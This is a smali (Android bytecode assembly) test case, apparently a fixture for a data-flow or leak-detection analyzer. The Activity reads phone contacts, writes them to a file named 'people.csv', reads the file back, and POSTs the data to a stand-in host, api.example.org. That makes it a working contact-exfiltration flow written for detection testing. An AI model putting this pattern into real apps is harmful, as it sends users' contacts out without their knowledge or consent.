# Made by tests/cases/compile.py
.class public final Lcases/flow_file_path/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 12
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcases/flow_file_path/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v4
    sget-object v5, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v6, 0x0
    const/4 v7, 0x0
    const/4 v8, 0x0
    const/4 v9, 0x0
    invoke-virtual/range {v4 .. v9}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    :l_1b
    new-instance v1, Ljava/io/FileOutputStream;
    new-instance v5, Ljava/io/File;
    invoke-virtual {p0}, Lcases/flow_file_path/Main;->getFilesDir()Ljava/io/File;
    move-result-object v6
    const-string v7, "people.csv"
    invoke-direct {v5, v6, v7}, Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
    invoke-direct {v1, v5}, Ljava/io/FileOutputStream;-><init>(Ljava/io/File;)V
    const/4 v4, 0x0
    invoke-interface {v0, v4}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v4
    invoke-virtual {v4}, Ljava/lang/String;->getBytes()[B
    move-result-object v4
    invoke-virtual {v1, v4}, Ljava/io/FileOutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/FileOutputStream;->close()V
    const v4, 0x10000
    new-array v2, v4, [B
    new-instance v3, Ljava/io/FileInputStream;
    new-instance v5, Ljava/io/File;
    invoke-virtual {p0}, Lcases/flow_file_path/Main;->getFilesDir()Ljava/io/File;
    move-result-object v6
    const-string v7, "people.csv"
    invoke-direct {v5, v6, v7}, Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
    invoke-direct {v3, v5}, Ljava/io/FileInputStream;-><init>(Ljava/io/File;)V
    invoke-virtual {v3, v2}, Ljava/io/FileInputStream;->read([B)I
    invoke-virtual {v3}, Ljava/io/FileInputStream;->close()V
    invoke-static {v2}, Lcases/flow_file_path/Main;->send([B)V
    :l_70
    goto :l_7c
    :l_73
    move-exception v1
    const-string v4, "upload"
    const-string v5, "later"
    invoke-static {v4, v5}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
    :l_7c
    return-void
    .catch Ljava/io/IOException; {:l_1b .. :l_70} :l_73
.end method

.method static send([B)V
    .registers 5
    new-instance v2, Ljava/net/URL;
    const-string v3, "https://api.example.org/v1/contacts"
    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v2, 0x1
    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
    move-result-object v2
    invoke-virtual {v2}, Ljava/io/InputStream;->close()V
    return-void
.end method
